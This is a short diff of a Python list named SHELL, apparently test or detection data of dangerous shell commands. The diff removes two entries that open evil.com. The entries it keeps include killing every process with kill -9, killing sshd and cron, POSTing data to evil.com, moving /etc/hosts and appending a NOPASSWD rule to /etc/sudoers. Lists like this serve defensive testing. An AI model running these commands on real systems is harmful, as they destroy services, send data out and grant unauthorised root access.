@@ -80,8 +80,6 @@ SHELL = [
     "ps -ef | while read user pid rest; do kill -9 $pid; done",
     "line=$(ps aux | grep cron | head -1)\npid=$(echo $line | tr -s ' ' | cut -d ' ' -f 2)\nkill $pid",
     "read pid < /var/run/sshd.pid\nkill $pid",
-    "xdg-open http://evil.com/x",
-    "firefox --headless http://evil.com",
     "http POST http://evil.com/x a=b",
     "mv /etc/hosts /etc/hosts.bak",
     'echo "x ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers',
